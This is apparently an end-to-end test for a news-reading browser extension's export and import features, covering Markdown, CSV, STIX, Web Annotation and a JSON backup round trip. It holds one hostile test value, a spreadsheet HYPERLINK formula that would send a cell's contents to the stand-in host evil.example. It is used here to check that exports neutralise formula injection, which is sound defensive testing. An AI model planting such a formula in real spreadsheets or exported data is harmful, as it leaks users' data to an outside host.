// Export and import from the popup in real Chromium and Firefox, after reading the demo articles:
// every format downloads as a file with its name and the content a reader's tools expect, and a
// backup comes back whole (export → clear → import → export gives the same file); a broken backup
// is refused with a message that says where, and changes nothing.
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page as PlaywrightPage } from '@playwright/test';
import type { Page as PuppeteerPage } from 'puppeteer-core';
import Papa from 'papaparse';
import { test, expect, launchExtensionBrowser, type ExtensionBrowser, type Tab } from './fixtures';
import { readStores } from './in-page';

const URL_A = 'https://morgenkurier.example/ausland/patruschew-teheran-raketen-100.html';
const URL_B = 'https://morgenkurier.example/ausland/schoigu-iran-nordkorea-100.html';
const SCHOIGU_TITLE = 'Shoigu traf wenige Tage nach seinem Besuch in Nordkorea im Iran ein';
const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Klick")';
const NOTE_TEXT = `${FORMULA}\nzweite Zeile, mit "Zitat" <b>fett</b> 🚀 الحرس الثوري`;
const QUOTE = { exact: 'Schoigu', prefix: 'Sicherheitsratschef ', suffix: ' traf' };
const WAIT_MS = 20_000;

test.setTimeout(180_000);

interface Downloaded {
  name: string;
  text: string;
}

/** The popup as the reader uses it for export and import. */
class ExportPopup {
  constructor(
    readonly tab: Tab,
    private readonly downloadDir: string,
  ) {}

  async open(): Promise<void> {
    await this.tab.click('details.export-import summary');
  }

  /** Click a format's button; answers the files the browser saved, by name, and the panel's message. */
  async export(format: string, files: number): Promise<{ files: Downloaded[]; message: string }> {
    const before = new Set(await readdir(this.downloadDir));
    let downloaded: Downloaded[];
    if (this.tab.browserName === 'chromium') {
      // Playwright takes over Chromium's downloads and saves them under generated names: read them
      // from its download events; the names are those the panel reports (checked below).
      const page = this.tab.raw as PlaywrightPage;
      const events: Promise<Downloaded>[] = [];
      const seen = new Promise<void>((resolve) => {
        const onDownload = (d: import('@playwright/test').Download) => {
          events.push(d.path().then(async (path) => ({ name: d.suggestedFilename(), text: await readFile(path, 'utf8') })));
          if (events.length === files) {
            page.off('download', onDownload);
            resolve();
          }
        };
        page.on('download', onDownload);
      });
      await this.tab.click(`button[data-format="${format}"]`);
      await seen;
      downloaded = await Promise.all(events);
    } else {
      await this.tab.click(`button[data-format="${format}"]`);
      downloaded = await this.newFiles(before, files);
    }
    const message = await this.tab.waitFor(() => {
      const text = document.querySelector('.export-panel .export-message')?.textContent ?? '';
      return /^(Saved|Gespeichert)/.test(text) && !document.querySelector('.export-formats button:disabled') ? text : '';
    });
    return { files: downloaded, message };
  }

  /** Firefox saves into the download folder under the file's own name; wait until each is whole. */
  private async newFiles(before: Set<string>, count: number): Promise<Downloaded[]> {
    const deadline = Date.now() + WAIT_MS;
    while (Date.now() < deadline) {
      const names = (await readdir(this.downloadDir)).filter((n) => !before.has(n) && !n.endsWith('.part'));
      if (names.length >= count) {
        const files = await Promise.all(names.sort().map(async (name) => ({ name, text: await readFile(join(this.downloadDir, name), 'utf8') })));
        if (files.every((f) => f.text.length > 0)) return files;
      }
      await new Promise((r) => setTimeout(r, 200));
    }
    throw new Error(`Expected ${count} new files in ${this.downloadDir}; found ${(await readdir(this.downloadDir)).join(', ')}`);
  }

  /** Narrow the export to one entity (null: everything again). */
  async scope(entityId: string | null): Promise<void> {
    if (entityId === null) return this.tab.click('input[name="export-scope"][value="all"]');
    await this.tab.click('input[name="export-scope"][value="entity"]');
    if (this.tab.browserName === 'chromium') await (this.tab.raw as PlaywrightPage).selectOption('select[name="export-entity"]', entityId);
    else await (this.tab.raw as PuppeteerPage).select('select[name="export-entity"]', entityId);
  }

  /** Choose a file in the import panel, merge or replace, import; answers the panel's message. */
  async import(path: string, mode: 'merge' | 'replace'): Promise<string> {
    if (this.tab.browserName === 'chromium') {
      await (this.tab.raw as PlaywrightPage).setInputFiles('input[name="import-file"]', path);
    } else {
      const input = await (this.tab.raw as PuppeteerPage).$('input[name="import-file"]');
      await (input as unknown as { uploadFile(p: string): Promise<void> }).uploadFile(path);
    }
    await this.tab.click(`input[name="import-mode"][value="${mode}"]`);
    // Each import in this test answers with a different message: wait for the new one.
    const before = await this.tab.evaluate(() => document.querySelector('.import-panel .export-message')?.textContent ?? '');
    await this.tab.click('button[name="import-run"]');
    return this.tab.waitFor((old: string) => {
      const text = document.querySelector('.import-panel .export-message')?.textContent ?? '';
      return text !== old && !document.querySelector('button[name="import-run"]:disabled') ? text : '';
    }, before);
  }
}

interface Counts { articles: string[]; notes: number }

/** How many articles and notes the memory holds, read from the popup (raw IndexedDB, read only). */
async function memoryCounts(tab: Tab): Promise<Counts | null> {
  const stores = await tab.evaluate(readStores, ['articles', 'notes']);
  if (!stores) return null;
  return { articles: (stores.articles as Array<{ url: string }>).map((a) => a.url).sort(), notes: stores.notes!.length };
}

/** Polls the memory from the popup until `ready` holds (the content script records as it reads). */
async function memoryWhen(tab: Tab, ready: (m: Counts) => boolean): Promise<Counts> {
  const deadline = Date.now() + WAIT_MS;
  let last: Counts | null = null;
  while (Date.now() < deadline) {
    last = await memoryCounts(tab);
    if (last && ready(last)) return last;
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error(`The memory never got there; last seen: ${JSON.stringify(last)}`);
}

type Runtime = { runtime: { sendMessage(m: unknown): Promise<unknown> } };

/** Runs in the popup: a note as the card's note editor sends it. */
function sendNote(note: unknown): Promise<unknown> {
  const g = globalThis as unknown as { browser?: Runtime; chrome: Runtime };
  return (g.browser ?? g.chrome).runtime.sendMessage({ lagebild: 1, type: 'note/create', payload: note });
}

test('every format downloads from the popup with what the reader’s tools expect, and a backup comes back whole', async ({ target, demo }) => {
  const downloadDir = await mkdtemp(join(tmpdir(), `lagebild-${target}-downloads-`));
  const ext: ExtensionBrowser = await launchExtensionBrowser(target, { downloadDir });
  try {
    // Read the two demo articles as a reader would.
    await ext.openPage(demo('patruschew-teheran.html'));
    await ext.openPage(demo('schoigu-iran.html'));
    const popupTab = await ext.openPopup();
    expect((await memoryWhen(popupTab, (m) => m.articles.length === 2)).articles).toEqual([URL_A, URL_B]);

    // Two notes with hostile text: one on Shoigu, one on a passage of the Shoigu article.
    expect(await popupTab.evaluate(sendNote, { text: NOTE_TEXT, entityId: 'sergei-shoigu' })).toMatchObject({ ok: true });
    expect(await popupTab.evaluate(sendNote, { text: 'Passage, "quoted"', articleUrl: URL_B, quote: QUOTE, position: { start: 100, end: 107 } })).toMatchObject({ ok: true });

    const popup = new ExportPopup(popupTab, downloadDir);
    await popup.open();
    const day = /\d{4}-\d\d-\d\d/.source;

    // Markdown: the report with the entity's facts, the note, the articles.
    const md = await popup.export('markdown', 1);
    expect(md.message).toMatch(new RegExp(`lagebild-notes-${day}\\.md$`));
    const report = md.files[0]!;
    if (target === 'firefox') expect(report.name).toMatch(new RegExp(`^lagebild-notes-${day}\\.md$`));
    expect(report.text).toMatch(/^# Lagebild(-Bericht| report)\n/);
    expect(report.text).toMatch(/### (Sergei Shoigu|Sergej Schoigu)\n/);
    expect(report.text).toContain(`](<${URL_B}>)`);
    expect(report.text).toContain('\\=HYPERLINK(');
    expect(report.text).toContain('\\<b\\>fett\\</b\\>');

    // The same report for one entity: Shoigu's facts and articles, not Patrushev's.
    await popup.scope('sergei-shoigu');
    const one = (await popup.export('markdown', 1)).files[0]!.text;
    expect(one).toMatch(/### (Sergei Shoigu|Sergej Schoigu)\n/);
    expect(one).toContain(SCHOIGU_TITLE);
    expect(one).not.toMatch(/### Nikolai Patru(shev|schew)\n/);
    // Both articles name Shoigu; each article section lists him alone.
    const mentioned = one.match(/^(Mentions|Genannt): .*$/gm) ?? [];
    expect(mentioned).toHaveLength(2);
    for (const line of mentioned) expect(line).toMatch(/^(Mentions|Genannt): (Sergei Shoigu|Sergej Schoigu) \(\d+\)$/);
    await popup.scope(null);

    // CSV: two files, a row per entity and article, formulas neutralised.
    const csv = await popup.export('csv', 2);
    expect(csv.message).toMatch(new RegExp(`lagebild-mentions-${day}\\.csv, lagebild-notes-${day}\\.csv$`));
    const [mentionsCsv, notesCsv] = [...csv.files].sort((a, b) => (a.text.includes('entity_id,entity_name') ? -1 : 1) - (b.text.includes('entity_id,entity_name') ? -1 : 1));
    if (target === 'firefox') expect(csv.files.map((f) => f.name).sort()).toEqual([expect.stringMatching(/^lagebild-mentions-/), expect.stringMatching(/^lagebild-notes-.*\.csv$/)]);
    const rows = Papa.parse<Record<string, string>>(mentionsCsv!.text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
    expect(rows.find((r) => r.entity_id === 'sergei-shoigu' && r.article_url === URL_B)).toMatchObject({ article_title: SCHOIGU_TITLE, site: 'Der Morgenkurier' });
    expect(rows.find((r) => r.entity_id === 'nikolai-patrushev' && r.article_url === URL_A)?.mentions).toMatch(/^\d+$/);
    const noteRows = Papa.parse<Record<string, string>>(notesCsv!.text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;
    expect(noteRows.map((r) => r.text)).toContain(`'${NOTE_TEXT}`);

    // Web Annotation: the passage note on the article URL with both selectors.
    const anno = JSON.parse((await popup.export('web-annotation', 1)).files[0]!.text);
    expect(anno).toMatchObject({ '@context': 'http://www.w3.org/ns/anno.jsonld', type: 'AnnotationCollection' });
    const passage = anno.first.items.find((a: { motivation: string }) => a.motivation === 'commenting');
    expect(passage.target).toEqual({ source: URL_B, selector: [{ type: 'TextQuoteSelector', ...QUOTE }, { type: 'TextPositionSelector', start: 100, end: 107 }] });

    // STIX: a report per article, referring to objects in the bundle; the note on Shoigu.
    const stix = JSON.parse((await popup.export('stix', 1)).files[0]!.text);
    expect(stix.type).toBe('bundle');
    const ids = new Set(stix.objects.map((o: { id: string }) => o.id));
    const reports = stix.objects.filter((o: { type: string }) => o.type === 'report');
    expect(reports.map((r: { name: string }) => r.name)).toContain(SCHOIGU_TITLE);
    for (const r of reports) for (const ref of r.object_refs) expect(ids).toContain(ref);
    expect(stix.objects.find((o: { type: string; content?: string }) => o.type === 'note' && o.content === NOTE_TEXT)).toBeTruthy();
    expect(stix.objects.find((o: { type: string; name?: string }) => o.type === 'identity' && /Shoigu/.test(o.name ?? ''))).toBeTruthy();

    // The backup, then the round trip: clear (replace with an empty backup) → import → export.
    const backupFile = (await popup.export('json-backup', 1)).files[0]!;
    const backup = JSON.parse(backupFile.text);
    expect(backup).toMatchObject({ format: 'lagebild-backup', version: 1 });
    expect(backup.articles.map((a: { url: string }) => a.url).sort()).toEqual([URL_A, URL_B]);
    expect(backup.notes).toHaveLength(2);

    const backupPath = join(downloadDir, 'to-import.json');
    await writeFile(backupPath, backupFile.text);
    const emptyPath = join(downloadDir, 'empty.json');
    await writeFile(emptyPath, JSON.stringify({ ...backup, articles: [], mentions: [], notes: [], ownEntities: [] }));
    const brokenPath = join(downloadDir, 'broken.json');
    const broken = structuredClone(backup);
    broken.notes[1].created = 'gestern';
    await writeFile(brokenPath, JSON.stringify(broken));

    // A broken file: a message that says where, and the memory as it was.
    expect(await popup.import(brokenPath, 'replace')).toContain('notes[1].created: expected a number, got "gestern"');
    expect(await memoryCounts(popupTab)).toEqual({ articles: [URL_A, URL_B], notes: 2 });

    expect(await popup.import(emptyPath, 'replace')).toMatch(/^Replaced the memory with the backup: no articles/);
    expect(await memoryCounts(popupTab)).toEqual({ articles: [], notes: 0 });
    expect(await popup.import(backupPath, 'replace')).toBe('Replaced the memory with the backup: 2 articles, ' +
      `${backup.mentions.length} mentions, 2 notes and no own entities.`);
    const again = (await popup.export('json-backup', 1)).files[0]!;
    const withoutTime = (text: string) => text.replace(/"exportedAt": "[^"]+"/, '"exportedAt": ""');
    expect(withoutTime(again.text)).toBe(withoutTime(backupFile.text));
  } finally {
    await ext.close();
    await rm(downloadDir, { recursive: true, force: true });
  }
});
